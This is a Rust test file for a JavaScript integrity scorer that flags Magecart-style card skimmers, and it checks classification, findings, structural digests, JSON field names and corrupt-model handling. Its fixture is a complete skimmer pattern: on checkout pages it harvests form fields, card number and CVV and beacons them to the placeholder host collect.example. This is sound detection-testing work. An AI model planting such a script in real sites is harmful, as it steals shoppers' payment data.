//! What a report says.

use jsintegrity::{Class, ErrorKind, ParseStatus, Score, Scorer};

/// Ours, inert: shaped like a skimmer, sends to a host that cannot exist.
/// An inert script in the shape of a skimmer.
pub(crate) const SKIMMER_SHAPED: &str = r#"
if (/checkout|onepage/.test(location.href)) {
  document.querySelector('#place-order').addEventListener('click', function () {
    var fields = document.querySelectorAll('input, select, textarea'), taken = {};
    for (var i = 0; i < fields.length; i++) { taken[fields[i].name] = fields[i].value; }
    var card = { cc_number: document.getElementById('cc_number').value, cvv: document.getElementById('cc_cid').value };
    var image = new Image();
    image.src = 'https://collect.example/pixel.gif?d=' + btoa(JSON.stringify([taken, card]));
  });
}"#;

const PLAIN: &str =
    "export function total(items) { return items.reduce((sum, item) => sum + item.price * item.count, 0); }";

fn scorer() -> Scorer {
    Scorer::bundled().expect("the shipped model loads")
}

#[test]
fn a_skimmer_is_malicious_and_explained() {
    let report = scorer().score(SKIMMER_SHAPED.as_bytes()).expect("a report");
    assert_eq!(report.scores.class_at(Score::DEFAULT_THRESHOLD), Class::Magecart, "{:?}", report.scores);
    let finding =
        report.findings.iter().find(|finding| finding.signal == "card-fields-sent").expect("the finding");
    assert!(finding.classes.contains(Class::Magecart));
    assert!(finding.line > 1 && finding.span.end <= SKIMMER_SHAPED.len() && !finding.snippet.is_empty());
    assert_eq!(report.urls, ["https://collect.example/pixel.gif?d="]);
    assert_eq!(report.parse, ParseStatus::Full);
}

#[test]
fn a_plain_module_is_benign() {
    let report = scorer().score(PLAIN.as_bytes()).expect("a report");
    assert_eq!(report.scores.class_at(Score::DEFAULT_THRESHOLD), Class::Benign, "{:?}", report.scores);
    assert_eq!(report.findings, []);
}

#[test]
fn the_same_bytes_give_the_same_report() {
    let (first, second) = (
        scorer().score(SKIMMER_SHAPED.as_bytes()).expect("a report"),
        scorer().score(SKIMMER_SHAPED.as_bytes()).expect("a report"),
    );
    assert_eq!(first, second);
    assert_eq!(first.model, scorer().model_id());
}

#[test]
fn comments_change_neither_scores_nor_structure() {
    let commented = SKIMMER_SHAPED.replace("{\n", "{ // reviewed, harmless, approved\n");
    let (plain, commented) = (
        scorer().score(SKIMMER_SHAPED.as_bytes()).expect("a report"),
        scorer().score(commented.as_bytes()).expect("a report"),
    );
    assert_eq!(plain.digests.structural, commented.digests.structural);
    assert_ne!(plain.digests.sha256, commented.digests.sha256);
    let signals = |report: &jsintegrity::ScriptReport| {
        report.findings.iter().map(|finding| finding.signal.clone()).collect::<Vec<_>>()
    };
    assert_eq!(signals(&plain), signals(&commented));
}

#[test]
fn structure_ignores_names_and_literals_but_not_calls() {
    let structural = |source: &str| scorer().score(source.as_bytes()).expect("a report").digests.structural;
    let base = structural("function f(a){return g(a+1,'x')}");
    assert_eq!(base, structural("function  f ( b ) {\n return g(b + 2, \"y\");\n}"));
    assert_ne!(base, structural("function f(a){return h(a+1,'x')}"));
    assert_ne!(base, structural("function f(a){send(a);return g(a+1,'x')}"));
    assert_ne!(base, structural("function f(a){return g(a-1,'x')}"));
}

#[test]
fn text_that_is_no_script_is_scored_by_its_tokens_and_says_so() {
    let report = scorer().score(b"<?php echo 1; ?> )( function(").expect("a report");
    assert_eq!(report.parse, ParseStatus::Lexical);
}

#[test]
fn a_report_in_json_has_the_contract_names() {
    let report = scorer().score(SKIMMER_SHAPED.as_bytes()).expect("a report");
    let json = serde_json::to_value(&report).expect("JSON");
    for name in [
        "js_integrity_score",
        "magecart_score",
        "cryptomining_score",
        "malware_score",
        "parse",
        "model",
        "findings",
        "urls",
        "digests",
    ] {
        assert!(json.get(name).is_some(), "{name} is missing in {json}");
    }
    assert_eq!(json["parse"], "full");
}

#[test]
fn damaged_models_are_refused() {
    let model = include_bytes!("../../models/bundled.model");
    assert_eq!(Scorer::from_bytes(b"").unwrap_err().kind(), ErrorKind::CorruptModel);
    assert_eq!(Scorer::from_bytes(b"PK\x03\x04 something else").unwrap_err().kind(), ErrorKind::CorruptModel);
    for length in [8, 11, 40, 200, model.len() / 2, model.len() - 1] {
        assert_eq!(
            Scorer::from_bytes(&model[..length]).unwrap_err().kind(),
            ErrorKind::CorruptModel,
            "{length}"
        );
    }
    let mut longer = model.to_vec();
    longer.push(0);
    assert_eq!(Scorer::from_bytes(&longer).unwrap_err().kind(), ErrorKind::CorruptModel);
    let text = String::from_utf8_lossy(&model[12..300]).into_owned();
    let at = 12 + text.find("\"layout\": ").expect("the header names its layout") + 10;
    let mut newer = model.to_vec();
    newer[at] = b'9';
    assert_eq!(Scorer::from_bytes(&newer).unwrap_err().kind(), ErrorKind::IncompatibleModel);
}
